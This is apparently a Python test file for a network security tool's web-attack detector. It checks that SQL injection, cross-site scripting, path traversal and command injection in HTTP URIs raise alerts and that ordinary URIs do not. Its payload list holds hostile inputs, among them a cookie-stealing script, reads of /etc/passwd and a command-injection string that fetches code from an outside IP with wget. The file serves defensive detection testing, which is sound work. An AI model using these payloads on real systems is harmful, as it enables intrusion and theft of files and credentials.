"""web.attack: injections, traversal and exploits in HTTP requests, one alert per attacker and
server; ordinary URIs that use the same words stay quiet (golden case, DVWA, properties)."""

from __future__ import annotations

import re
from pathlib import Path
from urllib.parse import quote

import polars as pl
from hypothesis import given
from hypothesis import strategies as st

from mamori.detect.engine import run_detectors
from support.golden import (
    assert_case_partitions,
    capture_frames,
    detect,
    expected,
    golden_alerts,
    typed,
)

ID = "web.attack"


def test_golden_case() -> None:
    assert golden_alerts("web_attack", "http", ID) == expected("web_attack")


def test_dvwa_sql_injection_is_found(data_dir: Path) -> None:
    """Zeek's DVWA trace: three injections from one browser. Zeek's detect-sqli waits for 50."""
    frames = capture_frames(data_dir / "zeek-btest/Traces/http/cooper-grill-dvwa.pcapng")
    got = run_detectors(frames, only=[ID]).alerts
    assert got.select("src", "dst", "count", "severity").rows() == [
        ("192.168.111.148", "192.168.111.154", 3, "medium")
    ]
    assert got["techniques"].to_list() == [["T1190"]] and "SQL injection" in got["summary"][0]


def test_each_attacker_alone_gives_its_own_alerts() -> None:
    assert_case_partitions(ID, "web_attack", "http")


PAYLOADS = {
    "sqli": ["1' OR '1'='1", "x' UNION SELECT NULL,version()#", "1; waitfor delay '0:0:5'",
             "admin'--", "1 AND sleep(5)"],
    "xss": ["<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>",
            "javascript:alert(1)"],
    "traversal": ["../../../etc/passwd", "..\\..\\..\\windows\\win.ini"],
    "cmdi": ["127.0.0.1; cat /etc/passwd", "x|id ", "$(wget http://198.51.100.9/x)"],
}  # fmt: skip
LABEL = {"sqli": "SQL injection", "xss": "cross-site scripting", "traversal": "path traversal",
         "cmdi": "command injection"}  # fmt: skip


def _one(uri: str) -> pl.DataFrame:
    row = {"ts": "2026-01-01T00:00:00Z", "uid": "H1", "orig_h": "10.0.0.1", "orig_p": 40000,
           "resp_h": "10.0.0.2", "resp_p": 80, "trans_depth": 1, "method": "GET", "uri": uri}  # fmt: skip
    return detect(ID, {"http": typed("http", [row]).lazy()})


@given(
    st.sampled_from([(k, p) for k, ps in PAYLOADS.items() for p in ps]),
    st.sampled_from(["raw", "encoded", "double", "plus"]),
    st.sampled_from(["/page?q=", "/a/b.php?id=7&x=", "/"]),
)
def test_an_attack_is_found_however_it_is_encoded(case: tuple, how: str, prefix: str) -> None:
    kind, payload = case
    if how == "encoded":
        payload = quote(payload, safe="")
    elif how == "double":
        payload = quote(quote(payload, safe=""), safe="")
    elif how == "plus":
        payload = payload.replace(" ", "+")
    got = _one(prefix + payload)
    assert got.height == 1 and LABEL[kind] in got["summary"][0]


_WORDS = ["select", "union", "order", "by", "from", "script", "alert", "cat", "id", "ls", "etc",
          "passwd", "and", "or", "1", "2", "=", "&", "-", ".", "/", "?", "o'neil", "it's", "+",
          "_", "%20", "javascript", "index.html", "..", ";"]  # fmt: skip


@given(st.lists(st.sampled_from(_WORDS), max_size=12))
def test_uris_made_of_ordinary_tokens_stay_quiet(tokens: list[str]) -> None:
    """The words and single characters the patterns use, in any order, are not an attack unless
    they line up as one: a single ``..`` segment, ``;`` before a parameter name, a quote inside a
    name. Sequences that do line up (``' or 1=1``, ``; cat``, spaces or none) are what the
    detector is for, and are told apart here by the text without its spaces."""
    uri = "/" + "".join(tokens)
    got = _one(uri)
    bare = uri.lower().replace("+", "").replace("%20", "")  # spaces do not separate these
    lined_up = re.search(r"(;|&&|\|)(cat|id|ls|sh|echo)|'(or|and|--)|\.\./\.\.|etc/passwd", bare)
    assert got.height == 0 or lined_up, uri
